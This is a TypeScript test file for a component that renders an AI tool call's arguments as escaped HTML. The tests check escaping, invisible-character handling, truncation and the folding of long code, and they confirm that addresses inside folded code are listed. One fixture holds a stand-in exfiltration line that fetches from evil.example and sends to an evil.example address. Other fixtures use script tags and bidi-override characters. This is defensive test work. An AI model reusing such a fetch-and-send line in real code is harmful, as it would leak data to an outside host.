import { callArguments } from '../../../src/surfaces/pages/call-arguments';
import { leastWork } from '../../support/work-time';

const shown = (value: unknown) => callArguments(value).content.html;

/** What is to be read: no tags, entities as characters. */
const words = (value: unknown) =>
	shown(value)
		.replace(/<[^>]*>/g, ' ')
		.replace(/&quot;/g, '"')
		.replace(/&gt;/g, '>');

describe('the arguments of a call', () => {
	it('are a list of fields, each with its kind', () => {
		const html = shown({
			name: 'Invoices',
			limit: 5,
			active: false,
			folder: null,
			note: '',
			gap: ' \n ',
		});
		expect(html).toContain(
			'<dt>name <span class="kind">text</span></dt><dd><p class="value">Invoices</p></dd>',
		);
		expect(html).toContain(
			'<dt>limit <span class="kind">number</span></dt><dd><p class="value">5</p></dd>',
		);
		expect(html).toContain(
			'<dt>active <span class="kind">yes or no</span></dt><dd><p class="value">false</p></dd>',
		);
		expect(html).toContain(
			'<dt>folder <span class="kind">nothing</span></dt><dd><p class="value">null</p></dd>',
		);
		expect(html).toContain('<dt>note <span class="kind">empty text</span></dt>');
		expect(html).toContain('<dt>gap <span class="kind">text of 3 blanks</span></dt>');
	});

	it('tell a text from what it looks like', () => {
		expect(shown({ limit: '5' })).not.toBe(shown({ limit: 5 }));
		expect(shown({ folder: 'null' })).not.toBe(shown({ folder: null }));
	});

	it('keep the lines of a text, the first empty one too', () => {
		expect(shown({ code: '\nfirst\n\n  second' })).toContain('<pre>\n\nfirst\n\n  second</pre>');
	});

	it('show nested values as JSON on many lines', () => {
		expect(words({ filter: { column: 'age', above: [18, 21] } })).toContain(
			JSON.stringify({ column: 'age', above: [18, 21] }, undefined, 2),
		);
	});

	it('keep the lines of a text inside lists', () => {
		const html = shown({ patches: [{ old_str: 'one\ntwo', new_str: 'three' }] });
		expect(html).toContain('<pre>\none\ntwo</pre>');
		expect(html).toContain('<p class="value">three</p>');
	});

	it.each([
		['a list', ['first', { deep: 'second' }], ['first', 'second']],
		['a text', 'alone', ['alone']],
		['nothing', null, ['null']],
		['no fields', {}, ['None.']],
		['no value at all', undefined, ['nothing']],
	])('may be %s', (_what, value, expected) => {
		const { complete } = callArguments(value);
		expect(complete).toBe(true);
		for (const word of expected) expect(words(value)).toContain(word);
	});

	it('are escaped, names too, and hide nothing', () => {
		const html = shown({ '<b>\u202E': '<script>', nested: { '<i>\u200B': '"<img>' } });
		expect(html).not.toMatch(/<(b|i|script|img)>/);
		expect(html).not.toMatch(/[\u202E\u200B]/);
		expect(html).toContain('\\u202E');
		expect(html).toContain('\\u200B');
	});

	it('are all there, however deep', () => {
		let value: unknown = 'the core';
		for (let level = 0; level < 500; level++)
			value = level % 2 ? [value] : { [`level${level}`]: value };
		const { complete } = callArguments({ value });
		expect(complete).toBe(true);
		for (let level = 0; level < 500; level += 2)
			expect(words({ value })).toContain(`level${level}"`);
		expect(words({ value })).toContain('the core');
	});

	it('are all there up to 200,000 characters', () => {
		const text = 'x'.repeat(199_980);
		expect(callArguments({ text })).toMatchObject({ complete: true });
		expect(shown({ text })).toContain(text);
		expect(shown({ text })).not.toContain('Not everything');
	});

	it('say so when they are longer', () => {
		const value = { text: 'x'.repeat(1_234_567 - 11) };
		expect(callArguments(value).complete).toBe(false);
		expect(words(value)).toContain(
			'The arguments have 1,234,567 characters. Only the first 200,000',
		);
		expect(words(value)).toContain('The last 1,034,567 characters are not shown.');
		expect(shown(value).match(/x/g)?.length).toBeGreaterThan(199_980);
	});
});

describe('what is folded away', () => {
	const lines = (text: string) => `${'// a line\n'.repeat(10)}${text}`;
	const folds = { code: ['code', 'patches'], presets: ['timeout'] };
	const shown = (value: object) => callArguments(value, folds).content.html;
	const outside = (html: string) => html.replace(/<details>.*?<\/details>/gs, '');

	it('stays on the page, all of it', () => {
		const html = shown({ workflowId: 'w1', code: lines('the end'), timeout: 60 });
		for (const text of ['w1', 'the end', '60']) expect(html).toContain(text);
		expect(outside(html)).toContain('w1');
		expect(outside(html)).not.toContain('the end');
		expect(html).toContain('<summary>Show <bdi>code</bdi>: 11 lines, 107 characters</summary>');
		expect(html).toContain('<summary>Show 1 preset value</summary>');
	});

	it('is nothing where the tool is not known', () => {
		const { content } = callArguments({ code: lines('the end'), timeout: 60 });
		expect(content.html).not.toContain('<details');
	});

	it('says outside which addresses stand in it', () => {
		const html = outside(
			shown({
				code: lines("fetch('https://evil.example/take?a=1'); send('eve@evil.example')"),
				patches: [{ old_str: lines('a'), new_str: 'other.example:8080/x //third.example' }],
			}),
		);
		for (const one of [
			'https://evil.example',
			'eve@evil.example',
			'other.example',
			'//third.example',
		])
			expect(html).toMatch(new RegExp(`<li>(?:<strong><bdi>.+</bdi></strong>: )?${one}</li>`));
		expect(outside(shown({ code: lines('') }))).toContain('No address in <code>code</code>');
	});

	it('is no code with a sign in it that nobody sees, and no code of few lines', () => {
		for (const code of [lines('a\u202Eb'), 'one\ntwo'])
			expect(shown({ code })).not.toContain('<details');
	});

	it.each([
		['dots', 'a.'.repeat(50_000)],
		['dashes', 'a-'.repeat(50_000)],
		['one long word', 'a'.repeat(150_000)],
		['at signs', 'a@'.repeat(50_000)],
	])('is searched in time, whatever a model writes: %s', async (_, text) => {
		const show = () => shown({ code: lines(text) });
		expect(await leastWork(5_000, show)).toBeLessThan(5_000);
	});
});
